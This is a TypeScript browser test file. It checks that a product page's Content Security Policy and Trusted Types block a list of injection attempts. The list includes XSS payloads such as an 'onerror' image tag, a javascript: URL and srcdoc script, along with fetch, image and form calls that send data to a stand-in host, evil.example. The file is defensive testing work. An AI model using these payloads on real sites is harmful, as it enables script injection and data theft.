import { expect, test } from './test.ts';
import { openPage } from './visit.ts';

declare global {
  interface Window {
    /** Counted by code that must not run. */
    ran?: number;
  }
}

/** Ways in which code, styles or data of somebody else could come into a page or leave it, and what refuses each. */
const intrusions: readonly (readonly [what: string, refusedBy: string, intrude: () => unknown])[] = [
  [
    'a script of another origin',
    'require-trusted-types-for',
    () => (document.createElement('script').src = 'https://evil.example/a.js'),
  ],
  [
    'a module of another origin',
    'script-src-elem',
    () =>
      document.head.append(
        Object.assign(document.createElement('link'), {
          rel: 'modulepreload',
          href: 'https://evil.example/a.js',
        }),
      ),
  ],
  ['markup', 'require-trusted-types-for', () => (document.body.innerHTML = '<img src=x onerror="ran = 1">')],
  [
    'a document of markup',
    'require-trusted-types-for',
    () => (document.createElement('iframe').srcdoc = '<script>parent.ran = 1</script>'),
  ],
  ['an event handler', 'require-trusted-types-for', () => document.body.setAttribute('onclick', 'ran = 1')],
  // In a later turn: what a debugger runs may make code of text.
  ['code made of text', 'require-trusted-types-for', () => setTimeout(() => setTimeout('ran = 1'))],
  [
    'an address that is code',
    'script-src-elem',
    () => {
      location.href = 'javascript:ran = 1';
    },
  ],
  ['a worker', 'require-trusted-types-for', () => new Worker('/pictures/evil.js')],
  ['a style attribute', 'style-src-attr', () => document.body.setAttribute('style', 'display: none')],
  [
    'a style element',
    'style-src-elem',
    () =>
      document.head.append(
        Object.assign(document.createElement('style'), { textContent: 'a { color: red }' }),
      ),
  ],
  ['a picture that tells', 'img-src', () => (new Image().src = 'https://evil.example/?bag=1')],
  ['a request that tells', 'connect-src', () => fetch('https://evil.example/?bag=1').catch(() => undefined)],
  [
    'another base of all links',
    'base-uri',
    () =>
      document.head.append(Object.assign(document.createElement('base'), { href: 'https://evil.example/' })),
  ],
  [
    'a frame',
    'frame-src',
    () =>
      document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://evil.example/' })),
  ],
  [
    'a plugin',
    'require-trusted-types-for',
    () =>
      document.body.append(
        Object.assign(document.createElement('object'), { data: 'https://evil.example/a' }),
      ),
  ],
  [
    'a form that sends elsewhere',
    'form-action',
    () => {
      const form = Object.assign(document.createElement('form'), {
        action: 'https://evil.example/',
        method: 'post',
      });
      document.body.append(form);
      form.submit();
    },
  ],
];

test.describe('where something has got into a page', () => {
  test.use({
    expectedComplaints: /Content Security Policy|Trusted(?:HTML|Script)|evil\.example|ERR_BLOCKED_BY_CSP/,
  });

  test('a shopper is safe: nothing of it runs, shows or leaves', async ({ page }) => {
    await openPage(page, '/product/lee-serum');
    // Passed over without a report.
    await page.evaluate(() => {
      const script = document.createElement('script');
      script.append('window.ran = 1');
      document.body.append(script);
    });
    for (const [what, refusedBy, intrude] of intrusions) {
      const refusal = page.evaluate(
        () =>
          new Promise<string>((resolve) => {
            document.addEventListener(
              'securitypolicyviolation',
              (event) => resolve(event.effectiveDirective),
              { once: true },
            );
            setTimeout(resolve, 5000, 'nothing');
          }),
      );
      // Some of it throws where it is tried.
      await page.evaluate(intrude).catch(() => undefined);
      const directive = await refusal;
      expect.soft(directive, what).toBe(refusedBy);
    }
    expect(await page.evaluate(() => window.ran)).toBeUndefined();
  });
});
